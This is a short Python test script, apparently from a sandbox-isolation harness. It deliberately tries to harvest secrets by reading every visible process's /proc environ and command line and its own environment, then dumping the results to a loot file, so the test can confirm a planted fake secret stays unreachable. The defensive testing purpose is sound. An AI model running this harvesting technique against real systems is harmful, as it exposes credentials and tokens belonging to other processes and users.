"""Steal secrets from environments: its own, and every visible process's environ and
command line (the worker's environment holds a fake secret). All of it goes to the
log and to /output, where the test looks for the secret."""
# /// hostile
# status = "ok"
# prints = ["environment: secret variable absent"]
# pipeline = "failed"
# ///

import contextlib
import json
import os
import pathlib

targets = json.loads(pathlib.Path("/submission/targets.json").read_text())
found = [f"{name}={value}" for name, value in os.environ.items()]
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    for part in ("environ", "cmdline"):
        try:
            with open(f"/proc/{pid}/{part}", "rb") as source:
                found += source.read().decode(errors="replace").split("\0")
        except OSError:
            pass
for pid in (targets["worker_pid"], targets["victim_pid"]):
    with contextlib.suppress(OSError):
        found.append(pathlib.Path(f"/proc/{pid}/environ").read_bytes().decode(errors="replace"))
with open("/output/loot.txt", "w") as loot:
    loot.write("\n".join(found))
print("\n".join(found)[:3000])
name = targets["secret_env_name"]
print(f"ESCAPED {name} is set" if name in os.environ else "environment: secret variable absent")
